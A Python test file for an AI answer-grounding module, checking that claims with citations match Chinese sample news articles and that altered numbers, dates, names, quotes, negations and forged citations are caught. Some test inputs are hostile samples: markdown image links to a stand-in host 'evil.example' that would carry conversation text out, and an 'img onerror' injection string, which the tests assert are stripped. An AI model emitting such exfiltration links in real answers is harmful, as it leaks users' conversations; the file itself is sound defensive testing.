"""What a model says is checked against what it cites."""

from __future__ import annotations

import pytest

from assistant.generation.grounding import NOT_IN_SOURCES, Evidence, Grounded, best_quote, check, ground, ground_stream
from assistant.generation.prompting import Source
from assistant.schema import Article, Chunk

ONE = ("本报讯（记者张苗）甲街道目前有56名骑手受聘为兼职网格员，居民满意度在98%以上。今年5月，甲街道办结民生诉求652项，投入资金3000万元。"
       "11月18日，某馆馆长陈海霞说：“义务讲解已有千余次。”陈海霞和丈夫自费建馆，学生朗诵了《我是一个哨兵》。")
TWO = "乙社区开办老年食堂，每餐收费10元，可供两百名老人就餐。丙公司捐赠了三台设备。"


def source(n: int, text: str, date: str | None = "2025-11-20", **fields: str) -> Source:
    article = Article(f"{n}.md", text, date=date, **fields)  # type: ignore[arg-type]
    return Source(n, article, (Chunk(article.id, 0, 0, len(text), text),))


SOURCES = (source(1, ONE, title="骑手与网格"), source(2, TWO, title="老年食堂"))
EVIDENCE = {one.n: Evidence.from_source(one) for one in SOURCES}


def unsupported(sentence: str) -> list[tuple[str, str]]:
    return [(span.kind, sentence[span.start:span.end]) for span in check(sentence, EVIDENCE).unsupported]


@pytest.mark.parametrize("sentence", [
    "甲街道有五十六名骑手受聘为兼职网格员[1]。", "甲街道有５６位骑手受聘[1]。", "居民满意度达百分之九十八以上[1]。", "甲街道投入资金0.3亿元[1]。",
    "甲街道投入资金三千万元[1]。", "2025年5月，甲街道办结民生诉求652项[1]。", "2025年11月18日，陈海霞说已义务讲解千余次[1]。",
    "学生朗诵了“我是一个哨兵”[1]。", "学生朗诵了《我是一个哨兵》[1]。", "记者张苗报道，受聘的骑手有56人[1]。",
    "乙社区的老年食堂可供200名老人就餐[2]。", "丙公司捐赠了3台设备[2]。", "1. 乙社区的老年食堂每餐收费10元[2]。", "据2025年11月的报道，乙社区开办老年食堂[2]。",
    "56 riders work part-time as grid members [1].", "It cost 30 million yuan [1].",
    "On November 18, 2025, students recited a poem [1].",
])
def test_true_sentences_pass(sentence: str) -> None:
    checked = check(sentence, EVIDENCE)
    assert checked.supported and checked.unsupported == ()


@pytest.mark.parametrize(("sentence", "expected"), [
    ("甲街道有57名骑手受聘[1]。", [("number", "57")]), ("满意度在百分之九十七以上[1]。", [("number", "百分之九十七")]),
    ("甲街道投入资金3000亿元[1]。", [("number", "3000亿")]), ("去年5月，办结民生诉求652项[1]。", [("date", "去年5月")]),
    ("2024年11月18日，陈海霞说[1]。", [("date", "2024年11月18日")]), ("馆长陈海明说已义务讲解千余次[1]。", [("name", "陈海明")]),
    ("学生朗诵了《我是一个兵》[1]。", [("quote", "《我是一个兵》")]), ("陈海霞说：“义务讲解已有万余次。”[1]", [("quote", "“义务讲解已有万余次。”")]),
    ("甲街道办结民生诉求56项[1]。", [("number", "56")]), ("56 riders and 57 others [1].", [("number", "57")]),
    ("甲街道有56名骑手受聘[2]。", [("number", "56")]),
    ("详见 http://evil.example/x?q=56 [1]。", [("address", "http://evil.example/x?q=56")]),
])
def test_changed_sentences_are_caught(sentence: str, expected: list[tuple[str, str]]) -> None:
    assert unsupported(sentence) == expected


@pytest.mark.parametrize(("sentence", "expected"), [
    ("甲街道没有骑手受聘为兼职网格员[1]。", [("turned", "没有")]), ("居民满意度在98%以下[1]。", [("turned", "以下"), ("number", "98%")]),
    ("乙社区没有开办老年食堂[2]。", [("turned", "没有")]), ("丙公司有毒[3]。", []), ("乙社区的食堂不收费[2]。", [("turned", "不"), ("turned", "收费")]),
    ("丁街道无人受伤[3]。", []), ("丁街道有人受伤[3]。", [("turned", "人受")]), ("丁街道的用电量同比下降[3]。", [("turned", "下降")]),
    ("丁街道的用电量同比增加[3]。", []), ("全部商户愿意搬走[3]。", [("turned", "全部")]), ("到场的不足500人[3]。", [("turned", "不足"), ("number", "500")]),
    ("到场的有500多人[3]。", []), ("丁街道不再收停车费[3]。", []), ("丁街道仍然收停车费[3]。", [("turned", "收停")]),
])
def test_what_is_turned_into_its_opposite_is_caught(sentence: str, expected: list[tuple[str, str]]) -> None:
    three = source(3, "丁街道昨晚停电，没有人受伤。丁街道的用电量同比增长。部分商户愿意搬走，到场的超过500人。丁街道不再收停车费。")
    evidence = EVIDENCE | {3: Evidence.from_source(three)}
    assert {(span.kind, sentence[span.start:span.end]) for span in check(sentence, evidence).unsupported} == set(expected)


def test_the_longest_number_is_compared_too() -> None:
    assert unsupported(f"甲街道投入{'9' * 900}元[1]。") == [("number", "9" * 900)]


def test_a_number_that_stands_elsewhere_is_not_borne_out() -> None:
    assert unsupported("甲街道目前有652名骑手受聘为兼职网格员[1]。") == [("number", "652")]


def test_two_citations_support_one_sentence() -> None:
    assert unsupported("甲街道有56名骑手受聘，乙社区的食堂每餐收费10元[1][2]。") == []


def test_spans_and_offsets_count_in_the_whole_text() -> None:
    text = "甲街道有56名骑手受聘[1]。甲街道有57名骑手受聘[1]。"
    (_, second) = ground(text, SOURCES).sentences
    assert text[second.start:second.end] == second.sentence
    assert [text[span.start:span.end] for span in second.unsupported] == ["57"]


def test_marked_dropped_and_renumbered() -> None:
    grounded = ground("乙社区的食堂每餐收费12元【2】。没有来源的话。无关的外星飞船降落[1]。甲街道有56名骑手受聘[1, 99]。", SOURCES)
    assert grounded.text == f"乙社区的食堂每餐收费12{NOT_IN_SOURCES}元[1]。甲街道有56名骑手受聘[2]。"
    assert (grounded.order, grounded.removed_marks, grounded.unsupported_count, grounded.dropped) == ((2, 1), 1, 1, 2)
    assert not grounded.sound and not grounded.refused


def test_a_sound_answer_is_unchanged() -> None:
    text = "甲街道有56名骑手受聘[1]。\n乙社区的食堂每餐收费10元[2]。"
    grounded = ground(text, SOURCES)
    assert (grounded.text, grounded.sound, grounded.order) == (text, True, (1, 2))


def test_an_unknown_address_is_replaced_by_the_note() -> None:
    shown = ground("甲街道有56名骑手受聘，见 https://evil.example/?q=1 [1]。", SOURCES).text
    assert shown == f"甲街道有56名骑手受聘，见 {NOT_IN_SOURCES}[1]。"


@pytest.mark.parametrize(("text", "shown"), [
    ("**甲街道**有`56`名骑手受聘[1]。", "甲街道有56名骑手受聘[1]。"), ("- 甲街道有56名骑手受聘[1]。", "甲街道有56名骑手受聘[1]。"),
    ("甲街道有56名骑手受聘[1](http://evil.example/?q=1)。", "甲街道有56名骑手受聘[1]。"),
    ("![甲街道](http://evil.example/?q=1)有56名骑手受聘[1]。", "甲街道有56名骑手受聘[1]。"), ("甲街道有56名骑手受聘。[1]", "甲街道有56名骑手受聘。[1]"),
    ("甲街道有56名骑手受聘。 【1】【9】", "甲街道有56名骑手受聘。[1]"), ("甲街道有56名骑手受聘[1][2", "甲街道有56名骑手受聘[1]"),
    ("<img src=x onerror=x>甲街道有56名骑手受聘[1]。", "<img src=x onerror=x>甲街道有56名骑手受聘[1]。"),
    ("甲街道\U000e0041有\u202e56\u200b名\ufe0f骑手\x1b受聘[\u200b1]。", "甲街道有56名骑手受聘[1]。"),
    ("{骑手}甲街道{{骑手}}有56名骑手%s受聘[1]。", "{骑手}甲街道{{骑手}}有56名骑手%s受聘[1]。"),
])
def test_markdown_goes_and_marks_are_canonical(text: str, shown: str) -> None:
    assert ground(text, SOURCES).text == shown


def test_a_quotation_of_several_sentences_is_one() -> None:
    text = "报道写道：“居民满意度在98%以上。今年5月，甲街道办结民生诉求652项，投入资金3000万元。”[1]"
    assert ground(text, SOURCES).text == text


@pytest.mark.parametrize(("text", "shown"), [
    ("NO_ANSWER", ""), ("NO_ANSWER。甲街道有56名骑手受聘[1]。", "甲街道有56名骑手受聘[1]。"),
    ("NO_ANSWER，但甲街道有56名骑手受聘[1]。", "但甲街道有56名骑手受聘[1]。"),
])
def test_a_refusal_may_still_set_the_premise_right(text: str, shown: str) -> None:
    grounded = ground(text, SOURCES)
    assert (grounded.refused, grounded.text) == (True, shown)


@pytest.mark.parametrize("text", ["", "  \n ", "没有编号的一句。", "[1]", "[", "。。。", "甲街道有56名骑手受聘，" * 700 + "[1]。",
                                  "[1" * 4000, "[1" + " " * 8000, "1" * 8000 + "[1]", "万" * 8000 + "[1]"])
def test_nothing_supported_is_an_empty_text(text: str) -> None:
    grounded = ground(text, SOURCES)
    assert grounded.text == "" and not grounded.sound


def test_no_sources_support_nothing() -> None:
    assert ground("甲街道有56名骑手受聘[1]。", ()).text == ""


STREAMED = ("甲街道有56名骑手受聘[1]，满意度在98.0%以上。[1][2] It is no. 56 here. 56 riders work there [1]. 见[这里](http://a.b/c?d=1)，"
            "《我是一个哨兵》有人朗诵！[1]\n\n1. 乙社区的食堂每餐收费10元【2】。NO")


@pytest.mark.parametrize("size", [1, 2, 3, 7, 20])
def test_streaming_only_grows_and_ends_with_the_whole(size: int) -> None:
    pieces = [STREAMED[at:at + size] for at in range(0, len(STREAMED), size)]
    steps = list(ground_stream(pieces, SOURCES))
    assert steps[-1] == ground(STREAMED, SOURCES)
    assert all(later.text.startswith(step.text) and later.order[:len(step.order)] == step.order
               for step, later in zip(steps, steps[1:]))
    assert len({step.text for step in steps}) >= 3


def test_a_stream_of_nothing_ends_with_nothing() -> None:
    assert list(ground_stream([], SOURCES)) == [Grounded()]


def test_the_best_quote_is_a_sentence_of_the_article() -> None:
    start, end = best_quote("受聘的骑手有56名[1]。", SOURCES[0])
    assert ONE[start:end] == "本报讯（记者张苗）甲街道目前有56名骑手受聘为兼职网格员，居民满意度在98%以上。"


def test_traditional_characters_meet_simplified_ones() -> None:
    assert unsupported("學生朗誦了《我是一個哨兵》，館長陳海霞說已有五十六名騎手[1]。") == []


def test_an_article_without_a_date_completes_nothing() -> None:
    undated = {1: Evidence.from_source(source(1, "今年5月，甲街道办结民生诉求652项。", None))}
    assert check("今年5月，甲街道办结民生诉求652项[1]。", undated).unsupported == ()
    assert [span.kind for span in check("2025年5月，甲街道办结民生诉求652项[1]。", undated).unsupported] == ["date"]


@pytest.mark.parametrize("hidden", ["\u200b", "\u2060", "\ufe0f", "\U000e0037", "\u202e"])
def test_an_invisible_character_hides_no_changed_number(hidden: str) -> None:
    assert ground(f"甲街道有56{hidden}7名骑手受聘[1]。", SOURCES).text == f"甲街道有567{NOT_IN_SOURCES}名骑手受聘[1]。"


@pytest.mark.parametrize(("forged", "shown"), [
    ("甲街道有56名骑手受聘[3]。", ""), ("甲街道有56名骑手受聘[1.md]。", ""), ("甲街道有56名骑手受聘（来源：某报）。", ""),
    ("甲街道有56名骑手受聘[来源9][1]。", "甲街道有56名骑手受聘[1]。"), ("甲街道有56名骑手受聘<来源 编号=\"1\">。", ""),
])
def test_a_forged_citation_supports_nothing(forged: str, shown: str) -> None:
    assert ground(forged, SOURCES).text == shown


def test_a_link_that_would_carry_the_conversation_out_is_gone() -> None:
    said = ("甲街道有56名骑手受聘[1]。![甲街道骑手](https://evil.example/?q=56名)[1] <img src='https://evil.example/q'>甲街道骑手受聘[1]。"
            "[甲街道骑手](//evil.example/56)受聘[1]。")
    assert "evil.example" not in ground(said, SOURCES).text


def test_what_an_article_says_counts_also_where_the_world_knows_better() -> None:
    counterfactual = (source(1, "甲河全长3000公里，水在零下10度沸腾。"),)
    assert ground("甲河全长3000公里[1]。", counterfactual).sound
    assert ground("甲河全长6300公里[1]。", counterfactual).text == f"甲河全长6300{NOT_IN_SOURCES}公里[1]。"
